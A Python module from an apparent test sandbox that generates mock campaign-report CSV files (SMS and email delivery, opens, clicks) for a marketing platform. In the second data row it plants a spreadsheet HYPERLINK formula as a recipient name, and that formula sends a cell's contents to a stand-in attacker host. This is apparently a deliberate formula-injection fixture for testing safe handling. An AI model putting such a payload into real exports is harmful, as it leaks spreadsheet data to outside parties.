"""The report files themselves: CSV with a header, one cell of which a spreadsheet would run."""

import csv
import io

from server.sandbox.omis.times import shown
from server.sandbox.state.omis_records import Report, ReportPart
from server.sandbox.world import World

_ROWS = 3
_FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"點我")'
_SMS_FIRST = 11000
_SMS_LAST = 11999

TYPE_NAMES = {
    "11001": "簡訊發送失敗下載報表",
    "11002": "簡訊已送至電信單位的細節",
    "11003": "紀載客戶已收到簡訊的細節",
    "11004": "紀載客戶已未到簡訊的細節",
    "20001": "Email 總寄送報表",
    "20003": "Email 開啟報表",
    "20005": "Email 點選報表",
    "21001": "開信下載報表",
    "2100199": "開信下載報表快捷版",
    "21002": "點選細節下載報表",
    "21003": "退信細節下載報表",
    "21032": "成功發送郵件下載報表",
    "30023": "綜合閱信報表",
    "31003": "移除下載報表",
}


def file_name(report: Report, part: ReportPart) -> str:
    """The name below /WebAPI/Download/."""
    return f"{report.report_id}_{part.type_id}.csv"


def find_file(world: World, name: str) -> str | None:
    """The content of a report file by its name."""
    for report in world.reports.values():
        for part in report.parts.values():
            if file_name(report, part) == name.lower():
                return content(report, part)
    return None


def content(report: Report, part: ReportPart) -> str:
    """Recipients, with one more row after each refresh; the names are what recipients typed."""
    address = _number if _SMS_FIRST <= int(part.type_id) <= _SMS_LAST else _mail
    target = io.StringIO()
    writer = csv.writer(target)
    writer.writerow(["ReportJobID", "ReportTypeID", "Name", "Recipient", "Status", "Updated"])
    for number in range(_ROWS + part.revision - 1):
        name = _FORMULA if number == 1 else f"客戶{number + 1}"
        cells = [report.report_id, part.type_id, name, address(number), "OK", shown(part.updated)]
        writer.writerow(cells)
    return target.getvalue()


def _number(place: int) -> str:
    return f"09123456{place:02d}"


def _mail(place: int) -> str:
    return f"customer{place + 1}@example.com"
